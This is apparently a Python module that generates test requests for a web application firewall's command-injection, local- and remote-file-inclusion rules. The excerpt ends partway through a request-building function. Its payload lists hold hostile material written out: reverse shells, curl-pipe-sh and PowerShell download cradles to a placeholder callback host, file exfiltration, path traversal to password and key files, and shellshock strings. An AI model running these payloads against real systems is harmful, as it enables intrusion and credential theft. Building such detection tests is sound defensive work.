"""Blind positive tests for the command injection (rce), local file inclusion / path traversal (lfi) and remote
file inclusion (rfi) detection titles, written the way automated scanners and exploitation tools emit them.

Angle: a fifteenth author of the CRS 3.3.4 request-rule titles 930100-932200 (plus the request-rule titles later
CRS releases added at paranoia levels 1-2), who writes each title's positive tests as DAST scanners' active checks
and exploitation tools build their probes: separators and time delays (sleep 11, ping -c 21 / -n 21), echo
canaries (qx7z8k), out-of-band callbacks to a collaborator-style host (kq3v9m.oastify.example), quote and
command-separator prefixes, caret / quote / wildcard / $IFS evasions, PowerShell download cradles and encoded
commands, shellshock strings in CGI headers, depth ladders and encodings of ../ (%2e, %252e, overlong UTF-8, %u),
the classic RFI parameter names and trailing question marks, and restricted file names as uploads.

Families and sub-families (one sub-family per detection title):
- lfi: path-traversal-encoded (930100), path-traversal-dotdot (930110), os-file-access (930120),
  restricted-file-access (930130), os-file-access-in-headers and path-traversal-triple-dot (later titles).
- rfi: rfi-url-ip-address (931100), rfi-vulnerable-param-name (931110), rfi-trailing-question-mark (931120),
  rfi-off-domain-reference (931130, PL2).
- rce: unix-command-injection (932100), unix-command-injection-more (932105), windows-command-injection (932110),
  windows-command-injection-more (932115), windows-powershell-command (932120), unix-shell-expression (932130),
  windows-for-if-command (932140), direct-unix-command (932150), unix-shell-code (932160), shellshock-header
  (932170), shellshock-args (932171), restricted-file-upload (932180), rce-bypass-technique (932200, PL2), and the
  later titles unix-command-without-evasion, unix-command-evasion-attempt, unix-shell-alias, unix-shell-history,
  unix-pipe-short-commands, sqlite-system-command, mail-protocol-command, windows-cmd-powershell-evasion,
  unix-shell-code-in-headers, direct-unix-command-absolute-wildcards.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, form of /admin/users/search
with csrf_token, JSON of /api/users, cookie, User-Agent, Referer, X-Custom header, a parameter name, an XML body,
a multipart field or file name, the URL path) and once the way a WAF's regression suite sends it (placements
prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, a form body,
a JSON body, an XML body, a raw form-typed body that is not key=value, in the User-Agent, the Referer, a custom
header, a cookie, a multipart file name or the path. Header-only titles (shellshock, the header variants) stay in
headers, upload names in file names, restricted files in the path. Benign requests carry the same words the way
people type them (Slack messages, bios, searches, admin-panel prose, documentation links, names and addresses,
ordinary browser headers and uploads).

Authorship and independence: written for this repository from general knowledge of how such tools build payloads
and from the detection titles alone; no ruleset rule or regression test, no payload list and no other blind set
was read. Measured once, on unchanged code; payloads were not changed after seeing the results. Deterministic
(no clock, no randomness).
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredthirteenth"

OOB = "kq3v9m.oastify.example"   # collaborator-style callback host
RFI_HOST = "rfi.oast.example"

# ---------------------------------------------------------------------------------------------------------------
# LFI
# ---------------------------------------------------------------------------------------------------------------
PATH_TRAVERSAL_ENCODED = [   # 930100: sent on the wire exactly as written (raw query, raw form)
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252f..%252fwindows%252fwin.ini",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "..%u2215..%u2215..%u2215..%u2215etc%u2215passwd",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
    "..%255c..%255c..%255c..%255cwindows%255cwin.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fWEB-INF%2fweb.xml",
    "..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
]
PATH_TRAVERSAL_DOTDOT = [   # 930110
    "../../../../../../../../etc/passwd",
    "../../../../../../../../../../etc/passwd%00",
    "....//....//....//....//....//etc/passwd",
    "..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "/var/www/html/../../../../../etc/shadow",
    "..\\/..\\/..\\/..\\/etc/passwd",
    "../../../../../../../../../../../../etc/hosts",
    "../../../../WEB-INF/web.xml",
    "..//..//..//..//..//etc//passwd",
    "/..\\../..\\../..\\../etc/passwd",
    "../../../../../../proc/self/environ",
    "..;/..;/..;/WEB-INF/web.xml",
    "../../../../../../etc/passwd%00.jpg",
    "static/../../../../../../../etc/issue",
]
OS_FILE_ACCESS = [   # 930120
    "/etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "c:\\windows\\win.ini",
    "C:/boot.ini",
    "/root/.bash_history",
    "/home/www-data/.ssh/id_rsa",
    "/var/log/apache2/access.log",
    "/etc/issue",
    "c:\\inetpub\\wwwroot\\web.config",
    "php://filter/convert.base64-encode/resource=/etc/passwd",
    "/etc/mysql/my.cnf",
]
RESTRICTED_FILE_ACCESS = [   # 930130: the URL path
    "/.git/config",
    "/.git/HEAD",
    "/.env",
    "/.htaccess",
    "/.htpasswd",
    "/web.config",
    "/.svn/entries",
    "/.DS_Store",
    "/WEB-INF/web.xml",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.bash_history",
    "/.hg/hgrc",
    "/.npmrc",
]
OS_FILE_ACCESS_HEADERS = [   # later title: OS file access in REQUEST_HEADERS
    "/etc/passwd",
    "../../../../../../etc/passwd",
    "https://www.example.com/index.php?page=../../../../etc/passwd",
    "/proc/self/environ",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "file:///etc/shadow",
    "/etc/group",
    "<?php include('/etc/passwd'); ?>",
    "/var/log/nginx/access.log",
    "/etc/security/passwd",
    "c:\\boot.ini",
    "/root/.ssh/authorized_keys",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
]
PATH_TRAVERSAL_TRIPLE_DOT = [   # later title: (/../) or (/.../)
    ".../.../.../.../etc/passwd",
    "/.../.../.../etc/passwd",
    "...\\...\\...\\windows\\win.ini",
    "..././..././..././..././etc/passwd",
    ".../...//.../...//etc/passwd",
    "/.../.../.../.../.../boot.ini",
    ".../.../.../WEB-INF/web.xml",
    "/%2e%2e%2e/%2e%2e%2e/%2e%2e%2e/etc/passwd",
    ".../...//etc/shadow",
    ".../.../.../proc/self/environ",
    "/static/.../.../.../.../etc/hosts",
    "..../..../..../..../etc/passwd",
    ".../.\\.../.\\.../.\\etc/passwd",
]

# ---------------------------------------------------------------------------------------------------------------
# RFI
# ---------------------------------------------------------------------------------------------------------------
RFI_IP = [   # 931100
    "http://203.0.113.66/shell.txt",
    "https://198.51.100.23/c99.php",
    "ftp://192.0.2.15/pub/r57.txt",
    "http://203.0.113.66:8080/backdoor.txt?",
    "http://10.13.37.1/x.php",
    "ftps://198.51.100.4/inc.txt",
    "file://192.0.2.88/share/evil.php",
    "HTTP://203.0.113.66/phpinfo.txt",
    "http://198.51.100.23/test.txt%00",
    "https://192.0.2.200/rfi.txt#",
    "http://203.0.113.9/cmd.txt?cmd=id",
    "http://[2001:db8::66]/shell.txt",
    "http://3405803776/shell.txt",
    "http://0xcb007142/r.txt",
]
RFI_PARAM_NAME = [   # 931110: name=value pairs, the name is part of the attack
    f"mosConfig_absolute_path=http://{RFI_HOST}/shell.txt?",
    f"_CONF[path]=http://{RFI_HOST}/inc.txt?",
    f"_SERVER[DOCUMENT_ROOT]=http://{RFI_HOST}/r57.txt?",
    f"GALLERY_BASEDIR=http://{RFI_HOST}/c99.txt?",
    f"path[docroot]=https://{RFI_HOST}/x.txt",
    f"appserv_root=http://{RFI_HOST}/id.txt?",
    f"config[root_dir]=ftp://{RFI_HOST}/pub/a.txt",
    f"include($page)=http://{RFI_HOST}/x.txt?",
    f"page=http://{RFI_HOST}/shell.txt?",
    f"file=https://{RFI_HOST}/inc.php",
    f"template=http://{RFI_HOST}/tpl.txt?",
    f"inc=ftp://{RFI_HOST}/evil.txt",
    f"include_path=http://{RFI_HOST}/",
    f"lang=http://{RFI_HOST}/lang.txt?",
]
RFI_TRAILING_QM = [   # 931120
    "http://evil.oast.example/shell.txt?",
    "https://evil.oast.example/c99.txt??",
    "ftp://evil.oast.example/pub/r57.txt?",
    "http://evil.oast.example/x.php?",
    "http://evil.oast.example:8000/inc.txt?",
    "HTTPS://EVIL.OAST.EXAMPLE/A.TXT?",
    "http://evil.oast.example/rfi.txt???",
    "file://evil.oast.example/share/x.txt?",
    "ftps://evil.oast.example/w.txt?",
    "http://evil.oast.example/phpinfo.txt?foo=bar?",
    "https://pastebin.example/raw/a1b2c3?",
    "http://evil.oast.example/?",
    "http://user@evil.oast.example/s.txt?",
    "https://raw.githubusercontent.example/x/y/main/shell.php?",
]
RFI_OFF_DOMAIN = [   # 931130 (PL2)
    "http://evil.oast.example/shell.txt",
    "https://evil.oast.example/payload.php",
    "ftp://evil.oast.example/x.txt",
    "http://evil.oast.example/include.inc",
    f"https://{OOB}/",
    "http://attacker-host.example:8080/backdoor.jsp",
    "https://evil.oast.example/raw/shell.txt#",
    "file://evil.oast.example/c$/payload.txt",
    "ftps://evil.oast.example/pub/inc.txt",
    "http://evil.oast.example/x.txt%00",
    "https://gist.example.com/raw/abcd/rce.php",
    "http://evil.oast.example/test.txt;.jpg",
    "HTTP://EVIL.OAST.EXAMPLE/SHELL.PHP",
    "https://evil.oast.example/inc.txt&x=",
]

# ---------------------------------------------------------------------------------------------------------------
# RCE
# ---------------------------------------------------------------------------------------------------------------
UNIX_CMD = [   # 932100
    ";id",
    "|id",
    "||id",
    "&&id",
    "'; cat /etc/passwd",
    "\"| cat /etc/passwd",
    "127.0.0.1; uname -a",
    "127.0.0.1 && whoami",
    "a|ls -la /",
    ";sleep 11;",
    "|sleep 11|",
    "; ping -c 21 127.0.0.1 ;",
    f"& nslookup {OOB} &",
    "\nid\n",
    f"; curl http://{OOB}/$(whoami)",
]
UNIX_CMD_MORE = [   # 932105
    f";wget http://{OOB}/x.sh -O /tmp/x.sh",
    f"|curl -s http://{OOB}/s|sh",
    ";nc -e /bin/sh 198.51.100.7 4444",
    "&& python -c 'import os;os.system(\"id\")'",
    "; perl -e 'print \"qx7z8k\"x3'",
    "| ruby -e 'puts `id`'",
    "; php -r 'system(\"id\");'",
    "&& bash -c 'id'",
    "; sh -c id",
    "|awk 'BEGIN{system(\"id\")}'",
    "; echo qx7z8k$((31+60))$(echo qx7z8k)qx7z8k",
    "; telnet 198.51.100.7 23",
    "|base64 /etc/passwd",
    "; ifconfig",
    "| netstat -an",
]
WIN_CMD = [   # 932110
    "& dir",
    "| dir c:\\",
    "&& type c:\\windows\\win.ini",
    "| ipconfig /all",
    "& net user",
    "&& whoami /priv",
    "| systeminfo",
    "& ping -n 21 127.0.0.1 &",
    "|echo qx7z8k | findstr qx7z8k",
    f"& nslookup {OOB} &",
    "\" & cmd /c dir & \"",
    "| net localgroup administrators",
    "& tasklist",
    f"&& certutil -urlcache -split -f http://{OOB}/a.exe a.exe",
    "| timeout /t 11",
]
WIN_CMD_MORE = [   # 932115
    "&c^m^d /c who^ami",
    "| c\"m\"d /c \"d\"ir",
    "&& cmd.exe /c ver",
    "| %comspec% /c dir",
    "& %SystemRoot%\\system32\\cmd.exe /c type c:\\boot.ini",
    "| ne^t us^er",
    "& reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\"",
    "&& wmic process list brief",
    f"| bitsadmin /transfer j http://{OOB}/a.exe c:\\a.exe",
    "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"",
    f"| mshta http://{OOB}/a.hta",
    f"& regsvr32 /s /n /u /i:http://{OOB}/a.sct scrobj.dll",
    "&& sc query",
    "| schtasks /query /fo LIST",
    "& attrib c:\\boot.ini",
]
POWERSHELL = [   # 932120
    f"powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{OOB}/a')\"",
    "| powershell.exe -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA",
    "; powershell -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
    f"Invoke-Expression (Invoke-WebRequest http://{OOB}/a).Content",
    f"iex(iwr http://{OOB}/p.ps1 -UseBasicParsing)",
    "& pwsh -c Get-Process",
    "Start-Process calc.exe",
    "Get-ChildItem C:\\ -Recurse -Filter *.config",
    f"Invoke-WebRequest -Uri http://{OOB}/ -Method POST -Body $env:COMPUTERNAME",
    "| powershell Start-Sleep -s 11",
    f"[System.Net.Dns]::GetHostAddresses('{OOB}')",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "New-Object System.Net.Sockets.TCPClient('198.51.100.7',4444)",
    "Get-Content C:\\Windows\\win.ini",
]
SHELL_EXPR = [   # 932130
    "$(id)",
    "`id`",
    "$(sleep 11)",
    "`sleep 11`",
    "${IFS}cat${IFS}/etc/passwd",
    f"$(nslookup {OOB})",
    f"`curl {OOB}`",
    "<(id)",
    ">(sh)",
    "$((7*191))",
    "${PATH:0:1}etc${PATH:0:1}passwd",
    "$(echo${IFS}qx7z8k)",
    "a$(printf${IFS}'\\x69\\x64')",
    "$(cat</etc/passwd)",
]
WIN_FOR_IF = [   # 932140
    f"for /f \"tokens=*\" %i in ('whoami') do nslookup %i.{OOB}",
    "& for /l %i in (1,1,11) do ping -n 2 127.0.0.1",
    "| for %a in (c:\\*) do echo %a",
    "&& if exist c:\\boot.ini (echo qx7z8k)",
    "& if defined PATH echo qx7z8k",
    "| if not exist c:\\x.txt echo qx7z8k",
    "for /d %d in (c:\\*) do dir %d",
    "for /r c:\\ %f in (*.config) do type %f",
    "& FOR /F %x IN ('ver') DO echo %x",
    "IF EXIST C:\\Windows\\win.ini type C:\\Windows\\win.ini",
    "& if errorlevel 1 echo qx7z8k",
    "if %USERNAME%==admin echo qx7z8k",
    "for /f \"delims=\" %a in ('dir /b') do @echo %a",
]
DIRECT_UNIX = [   # 932150: the value starts with the command
    "cat /etc/passwd",
    "ls -la /",
    "uname -a",
    f"wget http://{OOB}/x -O /tmp/x",
    f"curl http://{OOB}/$(id)",
    "nc 198.51.100.7 4444 -e /bin/sh",
    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "sleep 11",
    "ping -c 11 127.0.0.1",
    "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "id;",
    f"nslookup {OOB}",
    "whoami",
    "perl -e 'sleep(11)'",
]
UNIX_SHELL_CODE = [   # 932160
    "/bin/bash -c id",
    ";/bin/sh",
    f"/usr/bin/wget http://{OOB}/x",
    f"/usr/bin/curl -d @/etc/passwd http://{OOB}/",
    "/bin/nc -lvp 4444",
    "/usr/bin/perl -e 'exec \"/bin/sh\"'",
    "/usr/bin/python3 -c 'print(1)'",
    "/bin/busybox telnetd -l /bin/sh -p 4444",
    "/usr/bin/whoami",
    "|/bin/cat /etc/shadow",
    "/usr/local/bin/php -r 'phpinfo();'",
    "/sbin/ifconfig",
    "/usr/bin/nohup /tmp/x &",
    "/usr/bin/env bash",
]
SHELLSHOCK_HEADER = [   # 932170: headers only
    "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; /bin/bash -c \"sleep 11\"",
    "() { :; }; /usr/bin/id",
    "() { _; } >_[$($())] { echo; id; }",
    "() { :; }; echo qx7z8k: $(id)",
    "() { ignored; }; /bin/ping -c 11 127.0.0.1",
    "() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    f"() {{ :; }}; curl http://{OOB}/shellshock",
    "() { (a)=>\\' bash -c \"echo date\"",
    "() { x() { _; }; x() { _; } <<a; }",
    f"() {{ :;}}; wget -O /tmp/x http://{OOB}/x",
    "() {:;}; /bin/cat /etc/passwd",
    "()  {  :;  }; echo Content-Type: text/plain; echo; id",
]
SHELLSHOCK_ARGS = [   # 932171: arguments, names, file names
    "() { :; }; echo; /bin/cat /etc/passwd",
    "() { :;}; /bin/sleep 11",
    "() { :; }; id",
    "() { :; }; echo qx7z8k",
    f"() {{ :; }}; /usr/bin/nslookup {OOB}",
    "() { _; }; /bin/uname -a",
    "() { :; };/bin/bash -c 'ping -c 11 127.0.0.1'",
    "() { foo;}; echo; /usr/bin/whoami",
    "() { :; }; /bin/sh -c 'nc 198.51.100.7 4444'",
    "() { (a)=>\\' id",
    "() { :; }; exec 5<>/dev/tcp/198.51.100.7/80",
    "()\t{ :; }; /bin/ls",
]
RESTRICTED_UPLOAD = [   # 932180: upload file names
    ".htaccess",
    ".htpasswd",
    "web.config",
    ".user.ini",
    "php.ini",
    ".bash_profile",
    "../../.htaccess",
    "WEB.CONFIG",
    "httpd.conf",
    "authorized_keys",
    ".profile",
    "global.asa",
    "web.xml",
    ".env",
]
RCE_BYPASS = [   # 932200 (PL2)
    "c''at /etc/pa''sswd",
    "c\"a\"t /e\"t\"c/passwd",
    "\\c\\a\\t /etc/passwd",
    "/???/c?t /???/p?ss??",
    "/bin/c[a]t /etc/pass[w]d",
    "cat$u /etc$u/passwd$u",
    "w$@hoami",
    "who$()ami",
    "c${u}at /etc/passwd",
    "cat /e*c/pa*wd",
    "{cat,/etc/passwd}",
    "/usr/bin/wh?ami",
    "l\\s -l\\a",
    "who``ami",
]
UNIX_NO_EVASION = [   # later title: Unix command injection (command without evasion)
    ";whoami",
    "|uname -a",
    "&&env",
    "; printenv",
    "| id;",
    "; hostname",
    "; pwd",
    "& ps aux",
    "|| ls -al",
    "; head -n 5 /etc/passwd",
    "| tail /var/log/syslog",
    "; more /etc/passwd",
    "&& less /etc/hosts",
    "| grep root /etc/passwd",
    "; find / -perm -4000",
]
UNIX_EVASION = [   # later title: Unix command injection evasion attempt
    ";c$@at /etc/passwd",
    "|w'h'o'a'm'i",
    ";c\\at /etc/passwd",
    "&&ca$()t /etc/passwd",
    ";ca``t /etc/passwd",
    "|/b??/c?t /e??/p?sswd",
    ";cat${IFS%??}/etc/passwd",
    ";$'\\x69\\x64'",
    ";ec''ho qx7z8k",
    "|i\\d",
    ";u\"n\"a\"m\"e -a",
    "&wh$()oami",
    ";$(rev<<<'imaohw')",
    ";ba\\sh -c id",
]
UNIX_ALIAS = [   # later title: Unix shell alias invocation
    "; alias x=id; x",
    "alias ls='rm -rf /'",
    "; \\alias",
    "|alias a=cat;a /etc/passwd",
    "&& alias -p",
    "; unalias -a; id",
    "alias xyz='nc -e /bin/sh 198.51.100.7 4444'",
    "`alias q=id;q`",
    f"$(alias p=wget;p http://{OOB})",
    f"; alias c=curl; c {OOB}",
    "alias sudo='sudo id'",
    ";alias\tw=whoami;w",
]
UNIX_HISTORY = [   # later title: Unix shell history invocation
    "; !!",
    "; !-1",
    "| !-2",
    "; !ls",
    "$(!!)",
    "; !?passwd?",
    "&& history",
    "; fc -s",
    "; fc -l",
    "`!-1`",
    "; !#",
    "; history -c",
    "; ^ls^id",
    "; !$",
]
UNIX_PIPES = [   # later title: pipes and 2-3 letter commands
    "|id",
    "|ls",
    "|ps",
    "|w",
    "|sh",
    "| nc 198.51.100.7 80",
    "|awk '{print}'",
    "|cut -d: -f1 /etc/passwd",
    "|dd if=/etc/passwd",
    "|du -sh /",
    "|df",
    "| od /etc/passwd",
    "|xxd /etc/passwd",
    "|tac /etc/passwd",
]
SQLITE = [   # later title: SQLite system command execution
    ";.system id",
    ".shell cat /etc/passwd",
    "1;.system whoami",
    "'; .shell id; --",
    ".load /tmp/evil.so",
    ".output /var/www/html/x.php",
    ".import /etc/passwd t",
    ".read /tmp/cmds.sql",
    "\n.system sleep 11\n",
    ".once /tmp/x.php",
    f".system nslookup {OOB}",
    "ATTACH DATABASE '/var/www/html/x.php' AS x;",
    "select load_extension('/tmp/evil.so')",
]
MAIL = [   # later title: SMTP / IMAP / POP3 command execution
    "victim@example.com\r\nRCPT TO:<attacker@oast.example>",
    "a@b.c\r\nDATA\r\nSubject: qx7z8k\r\n.\r\nQUIT",
    "\r\nMAIL FROM:<attacker@oast.example>\r\n",
    "x\r\nHELO attacker\r\n",
    "\r\nEHLO oast.example\r\n",
    "\r\nVRFY root\r\n",
    "\r\nEXPN admin\r\n",
    "INBOX\r\nA001 LOGIN admin admin\r\n",
    "\r\na1 SELECT INBOX\r\n",
    "\r\nA002 FETCH 1:* (BODY[])\r\n",
    "\r\na3 CAPABILITY\r\n",
    "\r\nUSER admin\r\nPASS admin\r\n",
    "\r\nRETR 1\r\n",
    "\r\nDELE 1\r\n",
]
WIN_EVASION = [   # later title: Windows command injection (cmd, powershell with evasions)
    "&p^o^w^e^r^s^h^e^l^l -c whoami",
    "|cmd /v:on /c \"set x=who&&set y=ami&&call %x%%y%\"",
    "& c^md.e^xe /c \"who^am^i\"",
    "|powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "& p\"owe\"rshell -c ls",
    "| powershell -c \"&('i'+'ex') ('whoami')\"",
    "| powershell -c \"I`E`X (N`ew-Ob`ject Net.WebClient).DownloadString('http://kq3v9m.oastify.example/a')\"",
    "& cmd /c set /a 7*191",
    "|%COMSPEC:~-7,3% /c whoami",
    "& c:\\wi*\\sys*32\\cmd.exe /c ver",
    "| pOwErShElL.ExE -NoP -NonI -W Hidden -Exec Bypass -Command whoami",
    "& powershell -c [char]105+[char]100",
    "|cmd.exe /c \"echo qx7z8k&&whoami\"",
    "& ^c^m^d /c ^d^i^r",
]
SHELL_CODE_HEADERS = [   # later title: Unix shell code in REQUEST_HEADERS
    "/bin/bash -c 'id'",
    "Mozilla/5.0 $(/usr/bin/id)",
    "; /bin/cat /etc/passwd",
    "`/usr/bin/whoami`",
    "| /bin/sh -i",
    f"/usr/bin/wget http://{OOB}/",
    "https://www.example.com/$(/bin/sleep 11)",
    "/bin/nc -e /bin/sh 198.51.100.7 4444",
    f"curl/7.0 ;/usr/bin/curl {OOB}",
    "/usr/bin/python -c 'import os'",
    f"/bin/busybox wget http://{OOB}/m",
    f"|| /usr/bin/nslookup {OOB}",
    "/usr/bin/perl -e 'sleep 11'",
    "&& /bin/ping -c 11 127.0.0.1",
]
DIRECT_ABS_WILDCARD = [   # later title: direct Unix command execution (absolute paths, wildcards)
    "/bin/cat /etc/passwd",
    "/bin/c?t /etc/p?sswd",
    "/???/??t /???/??ss??",
    "/???/n? -e /???/b??h 198.51.100.7 4444",
    "/usr/bin/i?",
    "/bin/l[s] -la",
    "/usr/bin/who*mi",
    "/b*/s? -c id",
    f"/usr/bin/w??t http://{OOB}",
    "/???/?s -la /",
    "/usr/sbin/sendmail -t",
    "/sbin/reboot",
    "/bin/rm -rf /tmp/x",
    "/usr/bin/ba[s]e64 /etc/passwd",
]

# ---------------------------------------------------------------------------------------------------------------
# Placements
# ---------------------------------------------------------------------------------------------------------------
OURS = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Custom", "param-name",
        "xml", "multipart-field"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
OURS_HEADERS = ["header:User-Agent", "header:Referer", "header:X-Custom", "cookie"]
RS_HEADERS = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-cookie"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
OUR_NAMES = ["q", "file", "page", "host", "cmd", "name", "path", "url"]


@dataclass
class Sub:
    category: str
    sub: str
    payloads: list[str]
    ours: list[str] = field(default_factory=lambda: OURS)
    rs: list[str] = field(default_factory=lambda: RS)
    raw: bool = False    # query and form values go on the wire exactly as written
    pair: bool = False   # the payload is name=value


SUBS = [
    Sub("lfi", "path-traversal-encoded", PATH_TRAVERSAL_ENCODED, raw=True),
    Sub("lfi", "path-traversal-dotdot", PATH_TRAVERSAL_DOTDOT),
    Sub("lfi", "os-file-access", OS_FILE_ACCESS),
    Sub("lfi", "restricted-file-access", RESTRICTED_FILE_ACCESS, ours=["path"], rs=["rs-path"]),
    Sub("lfi", "os-file-access-in-headers", OS_FILE_ACCESS_HEADERS, ours=OURS_HEADERS, rs=RS_HEADERS),
    Sub("lfi", "path-traversal-triple-dot", PATH_TRAVERSAL_TRIPLE_DOT),
    Sub("rfi", "rfi-url-ip-address", RFI_IP),
    Sub("rfi", "rfi-vulnerable-param-name", RFI_PARAM_NAME, ours=["query", "form", "json", "cookie", "multipart-field"],
        rs=["rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-cookie"], raw=True, pair=True),
    Sub("rfi", "rfi-trailing-question-mark", RFI_TRAILING_QM),
    Sub("rfi", "rfi-off-domain-reference", RFI_OFF_DOMAIN),
    Sub("rce", "unix-command-injection", UNIX_CMD),
    Sub("rce", "unix-command-injection-more", UNIX_CMD_MORE),
    Sub("rce", "windows-command-injection", WIN_CMD),
    Sub("rce", "windows-command-injection-more", WIN_CMD_MORE),
    Sub("rce", "windows-powershell-command", POWERSHELL),
    Sub("rce", "unix-shell-expression", SHELL_EXPR),
    Sub("rce", "windows-for-if-command", WIN_FOR_IF),
    Sub("rce", "direct-unix-command", DIRECT_UNIX),
    Sub("rce", "unix-shell-code", UNIX_SHELL_CODE),
    Sub("rce", "shellshock-header", SHELLSHOCK_HEADER, ours=OURS_HEADERS, rs=RS_HEADERS),
    Sub("rce", "shellshock-args", SHELLSHOCK_ARGS,
        ours=["query", "form", "json", "param-name", "multipart-field", "multipart-filename"],
        rs=["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body"]),
    Sub("rce", "restricted-file-upload", RESTRICTED_UPLOAD, ours=["multipart-filename", "header:X-Filename"],
        rs=["rs-multipart-filename", "rs-header:X-File-Name"]),
    Sub("rce", "rce-bypass-technique", RCE_BYPASS),
    Sub("rce", "unix-command-without-evasion", UNIX_NO_EVASION),
    Sub("rce", "unix-command-evasion-attempt", UNIX_EVASION),
    Sub("rce", "unix-shell-alias", UNIX_ALIAS),
    Sub("rce", "unix-shell-history", UNIX_HISTORY),
    Sub("rce", "unix-pipe-short-commands", UNIX_PIPES),
    Sub("rce", "sqlite-system-command", SQLITE),
    Sub("rce", "mail-protocol-command", MAIL),
    Sub("rce", "windows-cmd-powershell-evasion", WIN_EVASION),
    Sub("rce", "unix-shell-code-in-headers", SHELL_CODE_HEADERS, ours=OURS_HEADERS, rs=RS_HEADERS),
    Sub("rce", "direct-unix-command-absolute-wildcards", DIRECT_ABS_WILDCARD),
]

BOUNDARY = "----WebKitFormBoundaryQx7z8kLm2Vb9Rt4A"
COOKIE_SAFE = "/:$(){}|!*'@?`<>.-_~[]^\\\"&=+#%"


def header_safe(value: str) -> str:
    """A header can carry no CR, LF or NUL: scanners send them percent-encoded there."""
    return value.replace("\r", "%0d").replace("\n", "%0a").replace("\x00", "%00")


def _headers(accept: str = "*/*", **extra: str) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": accept, **extra}


def _enc(value: str, raw: bool) -> str:
    return value if raw else urllib.parse.quote(value, safe="")


def _kv(name: str, value: str, raw: bool) -> str:
    return f"{_enc(name, raw)}={_enc(value, raw)}"


def _multipart(uri: str, parts: list[tuple[str, str, str | None]]) -> dict[str, Any]:
    """A multipart/form-data POST: parts of (field name, content, file name or None)."""
    lines: list[str] = []
    for name, content, filename in parts:
        lines.append("--" + BOUNDARY)
        if filename is None:
            lines.append(f'Content-Disposition: form-data; name="{name}"')
        else:
            fname = filename.replace('"', "%22")
            lines.append(f'Content-Disposition: form-data; name="{name}"; filename="{fname}"')
            lines.append("Content-Type: application/octet-stream")
        lines.append("")
        lines.append(content)
    lines.append("--" + BOUNDARY + "--")
    lines.append("")
    return {"method": "POST", "uri": uri, "body": "\r\n".join(lines),
            "headers": _headers("text/html", **{"Content-Type": "multipart/form-data; boundary=" + BOUNDARY})}


def _xml(uri: str, root: str, name: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{escape(value)}</{name}></{root}>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers("application/xml", **{"Content-Type": "application/xml"})}


def _raw_form(uri: str, body: str, accept: str = "text/html") -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers(accept, **{"Content-Type": "application/x-www-form-urlencoded"})}


def _with_header(req: dict[str, Any], name: str, value: str) -> dict[str, Any]:
    return {**req, "headers": {**req["headers"], name: value}}


def ours_request(place: str, name: str, value: str, s: Sub, k: int) -> tuple[dict[str, Any], str]:
    """The payload at one of our routes' input places; returns (request, the payload as sent)."""
    if place == "query":
        return _get(f"/api/users?page=1&{_kv(name, value, s.raw)}"), value
    if place == "form":
        return _raw_form("/admin/users/search", f"csrf_token=t0k3n&{_kv(name, value, s.raw)}"), value
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: value}), value
    if place == "cookie":
        v = header_safe(value)
        cookie = f"session=abc123; {name}={urllib.parse.quote(v, safe=COOKIE_SAFE)}"
        return _with_header(_get("/api/users?page=1"), "Cookie", cookie), v
    if place.startswith("header:"):
        v = header_safe(value)
        return _with_header(_get("/api/users?page=1"), place.split(":", 1)[1], v), v
